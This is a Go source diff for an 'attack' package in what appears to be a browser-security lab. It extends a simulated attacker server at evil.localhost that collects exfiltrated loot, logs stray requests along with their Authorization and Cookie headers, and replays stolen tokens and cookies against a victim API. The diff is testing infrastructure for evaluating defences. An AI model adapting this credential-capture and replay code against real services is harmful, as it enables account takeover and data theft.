@@ -3,6 +3,7 @@ package attack
 import (
 	"cmp"
 	"context"
+	"crypto/ecdsa"
 	"crypto/rand"
 	"encoding/json"
 	"fmt"
@@ -11,6 +12,7 @@ import (
 	"net"
 	"net/http"
 	"net/url"
+	"slices"
 	"strings"
 	"sync"
 
@@ -20,27 +22,52 @@ import (
 )
 
 // attacker has an origin of another site, where loot arrives and from where
-// forged requests leave, and a client that has nothing of the browser's.
+// forged requests leave, one of the victim's site, as whoever took over a
+// forgotten sub-domain has, and a client that has nothing of the browser's.
 type attacker struct {
-	world  *strategy.World
-	origin string
-	server *http.Server
-	client *http.Client
+	world   *strategy.World
+	origin  string
+	sibling string // of the same site as all applications
+	server  *http.Server
+	client  *http.Client
 
 	mu      sync.Mutex
 	reports map[string]chan message // by nonce
-	pages   map[string]string       // by path
+	files   map[string]file         // by path
+	strays  []stray
+	// referers are the addresses from which a file was asked for, by its path.
+	referers map[string]string
+	// key is the attacker's own, keys are those it found, by their thumbprint.
+	key  *ecdsa.PrivateKey
+	keys map[string]*ecdsa.PrivateKey
 }
+
+// file is something the attacker serves.
+type file struct{ kind, text string }
+
+// stray is a request that was not made for the attacker, and came all the same.
+type stray struct{ request, credentials string }
 
 // message is what a payload sends home.
 type message struct {
 	// Places are texts by the place they were read in.
 	Places map[string]string `json:"places"`
+	// Requests are those of the application that a payload kept for the attacker.
+	Requests []request `json:"requests"`
 	// Error is what the payload could not do; it ran to its end all the same.
 	Error string `json:"error"`
+	// More: the payload goes on, and will report again.
+	More bool `json:"more"`
 	// By is how it came: "fetch", or "navigation" where the page's policy lets
 	// nothing else out.
 	By string `json:"by"`
+}
+
+// request is one that an application was about to send.
+type request struct {
+	Method  string            `json:"method"`
+	Address string            `json:"address"`
+	Header  map[string]string `json:"header"`
 }
 
 func newAttacker(w *strategy.World) (*attacker, error) {
@@ -48,12 +75,13 @@ func newAttacker(w *strategy.World) (*attacker, error) {
 	if err != nil {
 		return nil, fmt.Errorf("attack: %w", err)
 	}
+	port := listener.Addr().(*net.TCPAddr).Port
 	a := &attacker{
-		world: w, origin: fmt.Sprintf("http://evil.localhost:%d", listener.Addr().(*net.TCPAddr).Port),
+		world: w, origin: fmt.Sprintf("http://evil.localhost:%d", port), sibling: fmt.Sprintf("http://evil.lab.localhost:%d", port),
 		client: &http.Client{Transport: w.Transport(), Timeout: patience, CheckRedirect: func(*http.Request, []*http.Request) error {
 			return http.ErrUseLastResponse
 		}},
-		reports: map[string]chan message{}, pages: map[string]string{},
+		reports: map[string]chan message{}, files: map[string]file{}, referers: map[string]string{}, key: newKey(), keys: map[string]*ecdsa.PrivateKey{},
 	}
 	a.server = &http.Server{Handler: http.HandlerFunc(a.serve), ReadHeaderTimeout: patience, ErrorLog: log.New(io.Discard, "", 0)}
 	go func() { _ = a.server.Serve(listener) }() // ends with close
@@ -72,14 +100,17 @@ func (a *attacker) serve(w http.ResponseWriter, r *http.Request) {
 	w.Header().Set("Cache-Control", "no-store")
 	if r.URL.Path != "/collect" {
 		a.mu.Lock()
-		page, ok := a.pages[r.URL.Path]
+		found, ok := a.files[r.URL.Path]
 		a.mu.Unlock()
 		if !ok {
-			http.NotFound(w, r)
+			a.catch(w, r)
 			return
 		}
-		w.Header().Set("Content-Type", "text/html; charset=utf-8")
-		_, _ = io.WriteString(w, page)
+		a.mu.Lock()
+		a.referers[r.URL.Path] += r.Referer() + "\n"
+		a.mu.Unlock()
+		w.Header().Set("Content-Type", found.kind+"; charset=utf-8")
+		_, _ = io.WriteString(w, found.text)
 		return
 	}
 	text := r.URL.Query().Get("report") // by a navigation
@@ -103,22 +134,54 @@ func (a *attacker) serve(w http.ResponseWriter, r *http.Request) {
 	}
 }
 
+// catch notes a request that was meant for somebody else, with what it brought,
+// and lets every page send more of its kind.
+func (a *attacker) catch(w http.ResponseWriter, r *http.Request) {
+	w.Header().Set("Access-Control-Allow-Origin", "*")
+	w.Header().Set("Access-Control-Allow-Headers", "*, Authorization")
+	if r.Method == http.MethodOptions {
+		return
+	}
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	a.strays = append(a.strays, stray{
+		request:     r.Method + " http://" + r.Host + r.URL.Path,
+		credentials: strings.Join(slices.Concat(r.Header.Values("Authorization"), r.Header.Values("Cookie")), "\n"),
+	})
+}
+
+func (a *attacker) referer(path string) string {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	return a.referers[path]
+}
+
+// caught are the strays since the first n.
+func (a *attacker) caught(n int) []stray {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	return slices.Clone(a.strays[n:])
+}
+
+// maxReports is how many reports of one payload wait to be read.
+const maxReports = 64
+
 // expect makes a collector's address for one payload.
 func (a *attacker) expect() (address string, arrived <-chan message) {
-	nonce, reports := rand.Text(), make(chan message, 1)
+	nonce, reports := rand.Text(), make(chan message, maxReports)
 	a.mu.Lock()
 	defer a.mu.Unlock()
 	a.reports[nonce] = reports
 	return a.origin + "/collect?nonce=" + nonce, reports
 }
 
-// publish serves a page at the attacker's origin and returns its address.
-func (a *attacker) publish(page string) string {
-	path := "/" + rand.Text()
+// publish serves a file at the attacker's origins and returns its path.
+func (a *attacker) publish(kind, text string) (path string) {
+	path = "/" + rand.Text()
 	a.mu.Lock()
 	defer a.mu.Unlock()
-	a.pages[path] = page
-	return a.origin + path
+	a.files[path] = file{kind, text}
+	return path
 }
 
 func await(ctx context.Context, arrived <-chan message) (message, error) {
@@ -141,48 +204,51 @@ func (a *attacker) ask(ctx context.Context, r *http.Request, with string) (lab.A
 		return answer, nil, fmt.Errorf("attack: %w", err)
 	}
 	defer resp.Body.Close()
-	body, err := io.ReadAll(io.LimitReader(resp.Body, maxReport))
+	body, err := readAll(resp.Body)
 	if err != nil {
 		return answer, nil, fmt.Errorf("attack: %w", err)
 	}
 	answer.Status = resp.StatusCode
+	answer.Gave, err = a.isVictims(ctx, body)
+	return answer, body, err
+}
+
+// readAll reads an answer, or as much as anybody looks at.
+func readAll(body io.Reader) ([]byte, error) { return io.ReadAll(io.LimitReader(body, maxReport)) }
+
+// isVictims reports whether a text is orders, one of the victim's among them.
+// The attacker's own are of no use to it.
+func (a *attacker) isVictims(ctx context.Context, body []byte) (bool, error) {
 	var page shared.OrderPage
-	answer.Gave = resp.StatusCode == http.StatusOK && json.Unmarshal(body, &page) == nil && page.Total > 0 && len(page.Orders) > 0
-	return answer, body, nil
+	if json.Unmarshal(body, &page) != nil || len(page.Orders) == 0 {
+		return false, nil
+	}
+	orders, err := a.world.VictimsOrders(ctx)
+	return slices.ContainsFunc(page.Orders, func(o shared.Order) bool {
+		return slices.ContainsFunc(orders, func(victims shared.Order) bool { return victims.ID == o.ID })
+	}), err
 }
 
 // use tries a piece of loot for all it is good for, and returns what it led to.
 func (a *attacker) use(ctx context.Context, s lab.Strategy, p piece, e *lab.Evidence) error {
 	switch p.kind {
 	case lab.KindAccess, lab.KindID:
-		r, err := http.NewRequest(http.MethodGet, a.world.API()+"/orders", nil)
-		if err != nil {
-			return err
-		}
-		r.Header.Set("Authorization", "Bearer "+p.value)
-		answer, _, err := a.ask(ctx, r, p.fingerprint())
-		e.Answers = append(e.Answers, answer)
-		return err
+		return a.note(ctx, s, "", p, e)
 	case lab.KindRefresh:
 		return a.redeem(ctx, s, p, url.Values{"grant_type": {"refresh_token"}, "refresh_token": {p.value}}, e)
 	case lab.KindCookie:
-		return a.replay(ctx, s, p, e)
+		return a.note(ctx, s, p.value, p, e)
 	}
 	return fmt.Errorf("attack: nobody knows a use for a %s", p.kind)
 }
 
-// replay sends a cookie as the application's own page would, header and all.
-func (a *attacker) replay(ctx context.Context, s lab.Strategy, p piece, e *lab.Evidence) error {
-	origin := a.world.Origin(s.ID)
-	r, err := http.NewRequest(http.MethodGet, origin+"/api/orders", nil)
-	if err != nil {
-		return err
+// note spends a token, or cookies, and keeps the answer.
+func (a *attacker) note(ctx context.Context, s lab.Strategy, cookies string, p piece, e *lab.Evidence) error {
+	token := p.value
+	if cookies != "" {
+		token = ""
 	}
-	r.Header.Set("Cookie", p.value)
-	r.Header.Set("Origin", origin)
-	r.Header.Set("Sec-Fetch-Site", "same-origin")
-	r.Header.Set(shared.HeaderCSRF, shared.ValueCSRF)
-	answer, _, err := a.ask(ctx, r, p.fingerprint())
+	answer, _, err := a.spend(ctx, s, cookies, token, p.fingerprint())
 	e.Answers = append(e.Answers, answer)
 	return err
 }
@@ -196,18 +262,18 @@ func (a *attacker) redeem(ctx context.Context, s lab.Strategy, p piece, form url
 		return err
 	}
 	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	if err := a.prove(r, ""); err != nil {
+		return err
+	}
 	answer, body, err := a.ask(ctx, r, p.fingerprint())
 	if err != nil {
 		return err
 	}
 	e.Answers = append(e.Answers, answer)
-	var tokens struct {
-		Access  string `json:"access_token"`
-		Refresh string `json:"refresh_token"`
-	}
-	if json.Unmarshal(body, &tokens) != nil || tokens.Access == "" {
+	var got tokens
+	if json.Unmarshal(body, &got) != nil || got.Access == "" {
 		return nil // refused: that is an outcome
 	}
-	e.Steps = append(e.Steps, fmt.Sprintf("the attacker's client was issued tokens of its own for the %s, a refresh token among them: %t", cmp.Or(p.kind, "grant"), tokens.Refresh != ""))
-	return a.use(ctx, s, piece{lab.KindAccess, "token endpoint", tokens.Access}, e)
+	e.Steps = append(e.Steps, fmt.Sprintf("the attacker's client was issued tokens of its own for the %s, a refresh token among them: %t", cmp.Or(p.kind, "grant"), got.Refresh != ""))
+	return a.use(ctx, s, piece{lab.KindAccess, "token endpoint", got.Access}, e)
 }
